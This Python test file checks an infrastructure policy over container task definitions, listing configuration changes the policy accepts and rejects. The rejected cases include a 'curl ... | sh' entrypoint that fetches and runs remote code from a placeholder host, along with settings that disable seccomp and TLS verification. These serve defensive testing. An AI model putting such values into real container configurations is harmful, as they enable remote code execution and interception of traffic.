from tests.policies.breaking import Case, Change, cases
from tests.policies.compute_cluster.stack import (
    APP,
    SIDECAR,
    TASK,
    WORKER_TASK,
    broken,
    broken_containers,
    container,
    recorded,
    violations,
)
from tests.support.editing import UNKNOWN

_BUILT, _CONNECTIONS, _LINUX = "containers-as-built", "container-connections-protected", "tasks-on-linux"

ACCEPTED: dict[str, Change] = {
    "nothing to start with, spelt out": container(TASK, APP, "command", []),
    "nothing more, spelt out": container(TASK, APP, "disableNetworking", False),
    "order of containers": container(TASK, APP, "dependsOn", [{"containerName": SIDECAR, "condition": "START"}]),
    "restart of a sidecar": container(TASK, SIDECAR, "restartPolicy", {"enabled": True}),
    "labels": container(TASK, APP, "dockerLabels", {"team": "training"}),
    "memory to write to": container(TASK, APP, "linuxParameters.tmpfs", [{"containerPath": "/run", "size": 16}]),
    "connection that is checked": container(TASK, APP, "environment", [{"name": "PGSSLMODE", "value": "verify-full"}]),
}

REJECTED: dict[str, Case] = {
    key: case
    for name in (APP, SIDECAR)
    for key, case in {
        **broken_containers(_BUILT, name, "entryPoint", ["sh", "-c", "curl https://fitness.example/run | sh"]),
        **broken_containers(_BUILT, name, "command", ["sh"], "sh"),
        **broken_containers(_BUILT, name, "workingDirectory", "/srv"),
        **broken_containers(_BUILT, name, "dnsServers", ["192.0.2.1"]),
        **broken_containers(_BUILT, name, "dnsSearchDomains", ["example.com"]),
        **broken_containers(_BUILT, name, "extraHosts", [{"hostname": "db", "ipAddress": "192.0.2.1"}]),
        **broken_containers(_BUILT, name, "links", ["other"]),
        **broken_containers(_BUILT, name, "firelensConfiguration", {"type": "fluentbit"}),
        **broken_containers(_BUILT, name, "repositoryCredentials", {"credentialsParameter": "x"}),
        **broken_containers(_BUILT, name, "systemControls", [{"namespace": "net.ipv4.ip_forward", "value": "1"}]),
        **broken_containers(_BUILT, name, "ulimits", [{"name": "nofile", "softLimit": 1, "hardLimit": 1}]),
        **broken_containers(_BUILT, name, "dockerSecurityOptions", ["seccomp:unconfined"]),
        **broken_containers(_BUILT, name, "volumesFrom", [{"sourceContainer": "other"}]),
        **broken_containers(_BUILT, name, "versionConsistency", "disabled"),
        **broken_containers(_BUILT, name, "whatComesNext", {"x": 1}),
        **broken_containers(_BUILT, name, "linuxParameters.devices", [{"hostPath": "/dev/kvm"}]),
        **broken_containers(_BUILT, name, "linuxParameters.sharedMemorySize", 64),
    }.items()
} | {
    **broken_containers(_CONNECTIONS, APP, "environment", [{"name": "PGSSLMODE", "value": "disable"}]),
    **broken_containers(
        _CONNECTIONS, APP, "environment", [{"name": "NODE_TLS_REJECT_UNAUTHORIZED", "value": "0"}], task=TASK
    ),
    **broken(_LINUX, TASK, "runtimePlatform.operatingSystemFamily", "WINDOWS_SERVER_2022_CORE", UNKNOWN, 7),
    **broken(_LINUX, WORKER_TASK, "runtimePlatform", UNKNOWN, "LINUX"),
    **broken(_LINUX, TASK, "proxyConfiguration", {"containerName": SIDECAR, "type": "APPMESH"}, UNKNOWN),
}


@cases(ACCEPTED)
def test_accepts(case: Change) -> None:
    assert violations(case(recorded("prod"))) == set()


@cases(REJECTED)
def test_rejects(case: Case) -> None:
    assert violations(case.change(recorded("prod"))) == case.violations
